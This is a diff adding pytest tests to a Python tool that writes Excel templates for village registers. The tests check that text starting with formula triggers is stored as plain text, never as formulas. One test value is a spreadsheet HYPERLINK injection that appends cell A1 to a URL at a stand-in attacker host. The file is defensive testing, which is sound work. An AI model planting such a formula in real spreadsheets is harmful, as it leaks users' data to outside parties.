@@ -172,3 +172,92 @@ def test_no_units_still_a_valid_file(tmp_path: Path) -> None:
     out = write_template(VILLAGE, "150621000000", "达拉特旗", "2021", tmp_path / "e.xlsx", [])
     data = _sheet(out)
     assert data[0] == VILLAGE.field_codes and len(data) == 2
+
+
+# --- text from registers and returns stays text ------------------------------------------
+
+# OWASP's formula triggers at the start of a text, and openpyxl's error codes.
+HOSTILE = {
+    "equals": '=HYPERLINK("http://evil.example/?"&A1,"核对")',
+    "plus": "+1+1",
+    "minus": "-1+1",
+    "at": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "carriage-return": "\r=1+1",
+    "error-code": "#N/A",
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+def test_a_register_name_like_a_formula_is_text_in_the_template(tmp_path: Path, text: str) -> None:
+    """The register's village name, the unit's name in meta and a typed value of a filled
+    return: string cells holding that very text, read back so by openpyxl, calamine and the
+    ingest reader, never a formula."""
+    from grassroots import readers
+
+    units = [(UNITS[0][0], text), UNITS[1]]
+    rows = [dict(ROW, zone_type=text), dict(ROW)]  # a label not in the list passes as typed
+    out = write_template(VILLAGE, "150621000000", text, "2021", tmp_path / "t.xlsx", units, rows)
+
+    book = openpyxl.load_workbook(out)
+    name_col = VILLAGE.field_codes.index("unit_name") + 1
+    zone_col = VILLAGE.field_codes.index("zone_type") + 1
+    planted = [book["data"].cell(3, name_col), book["data"].cell(3, zone_col)]
+    planted += [row[1] for row in book["meta"].iter_rows() if row[0].value == "unit_name"]
+    assert len(planted) == 3
+    for cell in planted:
+        assert (cell.value, cell.data_type) == (text, "s"), cell.coordinate
+        assert cell.quotePrefix is text.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert [c.coordinate for ws in book for row in ws.iter_rows() for c in row
+            if c.data_type in ("f", "e")] == []
+    assert book["data"].cell(3, VILLAGE.field_codes.index("star_rating") + 1).data_type == "n"
+
+    data = _sheet(out)
+    assert data[2][name_col - 1] == text and data[2][zone_col - 1] == text
+    table = readers.read_table("t.xlsx", out.read_bytes())  # what ingest reads
+    assert table.formulas == []
+    assert table.rows[2][name_col - 1] == text and table.rows[2][zone_col - 1] == text
+
+
+def test_a_negative_number_in_a_filled_return_stays_a_number(tmp_path: Path) -> None:
+    rows = [dict(ROW, income_net=Decimal("-12.5")), dict(ROW), dict(ROW)]
+    out = write_template(VILLAGE, "150621000000", "达拉特旗", "2021", tmp_path / "n.xlsx", UNITS, rows)
+
+    cell = openpyxl.load_workbook(out)["data"].cell(3, VILLAGE.field_codes.index("income_net") + 1)
+    assert (cell.value, cell.data_type) == (-12.5, "n")
+
+
+@pytest.mark.parametrize(
+    "labels",
+    [["甲,乙", "丙"], ['说"好"', "坏"], ["=1+1", "-1", "@A1", "+1"], [f"类别{n:03d}" for n in range(60)]],
+    ids=["comma", "quote", "formula-like", "too-long"],
+)
+def test_a_dropdown_whose_labels_cannot_be_inline_lists_them_in_cells(
+    tmp_path: Path, labels: list[str]
+) -> None:
+    """A comma or a quote in a label would break an inline list (``"a,b"``): such a list,
+    like one too long for Excel, is kept in cells of the hidden lists sheet, as text."""
+    import dataclasses
+
+    zone = VILLAGE.field("zone_type")
+    fields = tuple(
+        dataclasses.replace(f, values={str(n): label for n, label in enumerate(labels)})
+        if f.code == "zone_type" else f
+        for f in VILLAGE.fields
+    )
+    form = dataclasses.replace(VILLAGE, fields=fields)
+    out = write_template(form, "150621000000", "达拉特旗", "2021", tmp_path / "d.xlsx", UNITS)
+
+    book = openpyxl.load_workbook(out)
+    column = openpyxl.utils.get_column_letter(VILLAGE.field_codes.index(zone.code) + 1)
+    (rule,) = [dv for dv in book["data"].data_validations.dataValidation
+               if str(dv.sqref) == f"{column}3:{column}5"]
+    lists = book["lists"]
+    assert rule.formula1 == f"'lists'!$A$1:$A${len(labels)}"
+    cells = [lists.cell(n, 1) for n in range(1, len(labels) + 1)]
+    assert [c.value for c in cells] == labels
+    assert {c.data_type for c in cells} == {"s"}
+    # the yes/no lists stay inline
+    boolean = openpyxl.utils.get_column_letter(VILLAGE.field_codes.index("venue_built") + 1)
+    assert [dv.formula1 for dv in book["data"].data_validations.dataValidation
+            if str(dv.sqref) == f"{boolean}3:{boolean}5"] == ['"是,否"']
